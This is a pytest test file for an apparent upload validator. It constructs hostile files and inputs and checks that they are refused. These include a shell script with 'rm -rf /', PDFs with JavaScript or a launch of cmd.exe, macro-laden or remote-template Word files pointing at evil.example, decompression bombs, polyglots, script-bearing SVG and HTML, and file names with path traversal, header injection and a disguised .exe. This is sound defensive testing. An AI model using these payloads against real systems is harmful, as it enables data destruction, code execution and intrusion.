"""Uploaded files: their content decides. Every hostile file is made here."""

import io
import struct
import zipfile
import zlib
from functools import cache

import pytest
from fpdf import FPDF
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook
from PIL import Image

from cts.domain.case_files import NAME_LIMIT, clean_name, size_words
from cts.outside import office_checks
from cts.outside.file_checks import look_at
from cts.outside.unsafe_file import UnsafeFile

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)


@cache
def a_pdf() -> bytes:
    """A page of text, compressed as usual."""
    paper = FPDF()
    paper.add_page()
    paper.set_font("helvetica")
    paper.cell(text="A consent, signed. 1 0 0 1 72 720 cm")
    return bytes(paper.output())


def a_docx(**parts: bytes | str) -> bytes:
    """A Word document with further parts, by their name with __ for / and _dot_ for a dot."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", parts.pop("types", CONTENT_TYPES))
        archive.writestr("word/document.xml", "<w:document>Hello</w:document>")
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return kept.getvalue()


def an_xlsx() -> bytes:
    """A workbook of one cell."""
    kept, book = io.BytesIO(), Workbook()
    assert book.active is not None
    book.active["A1"] = "Shoes"
    book.save(kept)
    return kept.getvalue()


def a_picture(kind: str, size: tuple[int, int] = (40, 30)) -> bytes:
    """A grey picture."""
    kept = io.BytesIO()
    Image.new("RGB", size, "grey").save(kept, kind)
    return kept.getvalue()


def pdf_with(objects: bytes) -> bytes:
    """A PDF with further objects in front of its end."""
    before, _, after = a_pdf().rpartition(b"startxref")
    return before + objects + b"\nstartxref" + after


def packed(objects: bytes, level: int = 9) -> bytes:
    """An object stream that hides these objects."""
    inside = zlib.compress(b"9 0 " + objects, level)
    head = b"9 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n" % len(inside)
    return head + inside + b"\nendstream\nendobj\n"


def png_header(width: int, height: int) -> bytes:
    """A PNG that states a size and holds next to nothing."""
    chunks = b"\x89PNG\r\n\x1a\n"
    inside = (
        (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)),
        (b"IDAT", zlib.compress(b"")),
        (b"IEND", b""),
    )
    for kind, data in inside:
        chunks += struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return chunks


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (a_pdf(), "pdf"),
        (pdf_with(packed(b"<</Type /Catalog /Title (Launching)>>")), "pdf"),
        (a_docx(), "docx"),
        (a_docx(word__embeddings__chart_dot_xlsx=an_xlsx()), "docx"),
        (an_xlsx(), "xlsx"),
        (a_picture("JPEG"), "jpg"),
        (a_picture("JPEG", (4000, 3000)), "jpg"),
        (a_picture("MPO"), "jpg"),
        (a_picture("PNG"), "png"),
    ],
)
def test_what_an_office_needs_is_kept(content: bytes, kind: str) -> None:
    assert look_at(content) == kind


SCRIPT = b"<</S /JavaScript /JS (app.alert(1))>>"
HOSTILE: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "empty"),
    "a renamed program": (b"MZ\x90\x00" + b"\x00" * 500, "program"),
    "a program of Linux": (b"\x7fELF" + b"\x00" * 500, "program"),
    "a shell script": (b"#!/bin/sh\nrm -rf /", "program"),
    "an old .doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500, "old Word or Excel"),
    "an SVG": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "HTML, SVG"),
    "an SVG with a head": (b'\xef\xbb\xbf<?xml version="1.0"?><svg/>', "HTML, SVG"),
    "a web page": (b"  <!DOCTYPE html><script>alert(1)</script>", "HTML, SVG"),
    "a GIF": (b"GIF89a" + b"\x00" * 50, "JPEG or PNG"),
    "a HEIC picture": (b"\x00\x00\x00\x18ftypheic" + b"\x00" * 50, "HEIC"),
    "plain text": (b"Dear CTS", "Save it as PDF"),
    "an archive": (b"", "archive"),
    "a PDF with a script": (pdf_with(b"9 0 obj\n" + SCRIPT + b"\nendobj"), "script"),
    "a PDF with a script, spelt in numbers": (pdf_with(b"9 0 obj\n<</S /J#61vaScript /J#53 (x)>>\nendobj"), "script"),
    "a PDF with a packed script": (pdf_with(packed(SCRIPT)), "script"),
    "a PDF that says not what it packs": (pdf_with(packed(SCRIPT).replace(b"/Type /ObjStm", b"/Type /Page")), "script"),
    "a PDF that starts a program": (pdf_with(b"9 0 obj\n<</S /Launch /F (cmd.exe)>>\nendobj"), "starts a program"),
    "a PDF with a file in it": (pdf_with(b"9 0 obj\n<</Type /EmbeddedFile>>\nendobj"), "another file"),
    "a PDF that unpacks to 200 MB": (pdf_with(packed(b" " * 200_000_000)), "unpacks to far more"),
    "a PDF packed otherwise": (pdf_with(packed(b"").replace(b"x\xda", b"??")), "cannot be read"),
    "a PDF that keeps its reader busy": (pdf_with(packed(b"#41" * 3_000_000)), "cannot be read"),
    "a PDF with a password": (pdf_with(b"trailer <</Encrypt 9 0 R>>"), "password"),
    "a PDF of nothing but its first and last words": (b"%PDF-1.7\n%%EOF", "damaged"),
    "a PDF without an object": (b"%PDF-1.7\nstartxref\n9\n%%EOF", "damaged"),
    "half a PDF": (a_pdf()[: len(a_pdf()) // 2], "damaged"),
    "a PDF that is an archive too": (a_pdf() + a_docx(), "damaged|two kinds"),
    "a Word document with macros": (a_docx(word__vbaProject_dot_bin=b"macro"), "macros"),
    "a .docm called .docx": (
        a_docx(types=CONTENT_TYPES.replace("document.main", "document.macroEnabled.main")),
        "macros",
    ),
    "a Word document with a program": (a_docx(word__media__image1_dot_png=b"MZ\x90"), "program or another file"),
    "a Word document with an OLE object": (
        a_docx(word__embeddings__oleObject1_dot_bin=b"\xd0\xcf\x11\xe0"),
        "another file",
    ),
    "a Word document with a script": (a_docx(word__run_dot_js="alert(1)"), "another file"),
    "a Word document with macros two deep": (
        a_docx(word__embeddings__a_dot_docx=a_docx(word__vbaProject_dot_bin=b"macro")),
        "macros",
    ),
    "a Word document with files three deep": (
        a_docx(word__embeddings__a_dot_docx=a_docx(word__embeddings__b_dot_docx=a_docx())),
        "files inside files",
    ),
    "a Word document with a template from elsewhere": (
        a_docx(
            word___rels__settings_dot_xml_dot_rels='<Relationship Id="1" Type="http://x/attachedTemplate" '
            'Target="https://evil.example/a.dotm" TargetMode="External"/>'
        ),
        "from elsewhere",
    ),
    "a Word document that keeps its reader busy": (
        a_docx(word___rels__a_dot_rels="<" * 1_500_000 + 'x/frame" Target="https://evil.example">'),
        "from elsewhere",
    ),
    "a bomb": (a_docx(word__media__image1_dot_bin=b"\x00" * 60_000_000), "unpacks to far more"),
    "a damaged archive": (a_docx()[:-30], "damaged"),
    "a picture of 40,000 by 40,000": (png_header(40_000, 40_000), "points"),
    "a picture of 8,000 by 8,000": (png_header(8_000, 8_000), "points"),
    "a damaged picture": (a_picture("JPEG", (800, 600))[:3000], "damaged"),
    "a PNG with a wrong sum": (a_picture("PNG").replace(b"IDAT", b"IDAU"), "damaged"),
    "a picture that is an archive too": (a_picture("PNG") + a_docx(), "two kinds"),
    "a picture with a tail": (a_picture("PNG") + b"tail", "two kinds"),
    "a picture that is a web page too": (a_picture("JPEG") + b"<html><script>alert(1)</script>", "two kinds"),
    "a picture that is a PDF too": (a_picture("JPEG")[:20] + b"%PDF-1.7" + a_picture("JPEG")[20:], "two kinds|damaged"),
}


def bare_archive() -> bytes:
    """A ZIP archive that is no document."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        archive.writestr("a.txt", "a")
    return kept.getvalue()


HOSTILE["an archive"] = (bare_archive(), "archive")


@pytest.mark.parametrize("what", HOSTILE)
def test_what_could_harm_is_refused_and_the_sentence_says_why(what: str) -> None:
    content, words = HOSTILE[what]
    with pytest.raises(UnsafeFile, match=words):
        look_at(content)


def test_an_archive_that_states_too_little_is_damaged_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    honest = a_docx(word__media__a_dot_bin=b"\x00" * 3_000_000)
    lying = honest.replace(struct.pack("<I", 3_000_000), struct.pack("<I", 300))
    with pytest.raises(UnsafeFile, match="damaged"):
        look_at(lying)
    monkeypatch.setattr(office_checks, "MOST_PARTS", 2)
    with pytest.raises(UnsafeFile, match="unpacks"):
        look_at(a_docx(one="1"))


@given(
    st.binary(max_size=300), st.sampled_from([b"", b"%PDF-1.7\n", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff"])
)
def test_whatever_it_is_the_answer_is_a_sentence(noise: bytes, start: bytes) -> None:
    with pytest.raises(UnsafeFile) as refused:
        look_at(start + noise)
    assert str(refused.value).endswith(".")


@pytest.mark.parametrize(
    ("typed", "suffix", "name"),
    [
        ("consent.pdf", "pdf", "consent.pdf"),
        ("C:\\Users\\wanda\\Consent.PDF", "pdf", "Consent.PDF"),
        ("../../etc/passwd", "pdf", "passwd.pdf"),
        ("photo.JPEG", "jpg", "photo.JPEG"),
        ("photo.jpg", "png", "photo.jpg.png"),
        ("a\u202egpj.exe", "pdf", "agpj.exe.pdf"),
        ("line\r\nSet-Cookie: x=1.pdf", "pdf", "line Set-Cookie x=1.pdf"),
        ('"><script>.docx', "docx", "script.docx"),
        ("", "png", "document.png"),
        ("....pdf", "pdf", "pdf.pdf"),
        ("Hồ sơ của Zoë.pdf", "pdf", "Hồ sơ của Zoë.pdf"),
        ("نامه\u200cها.pdf", "pdf", "نامه\u200cها.pdf"),
    ],
)
def test_names_are_only_names(typed: str, suffix: str, name: str) -> None:
    assert clean_name(typed, suffix) == name


@given(st.text(max_size=400), st.sampled_from(["pdf", "docx", "xlsx", "jpg", "png"]))
@example("x" * 300 + ".pdf", "pdf")
def test_a_name_is_short_printable_and_ends_in_its_kind(typed: str, suffix: str) -> None:
    name = clean_name(typed, suffix)
    assert len(name) <= NAME_LIMIT
    assert name.lower().endswith((f".{suffix}", ".jpeg"))
    assert not set(name) & set('\r\n\t/\\"<>|:*?\u202e\u2066\u200f\x00')


@pytest.mark.parametrize(
    ("size", "words"), [(312, "312 bytes"), (48_200, "48 KB"), (999_499, "999 KB"), (2_400_000, "2.4 MB")]
)
def test_sizes_in_words(size: int, words: str) -> None:
    assert size_words(size) == words
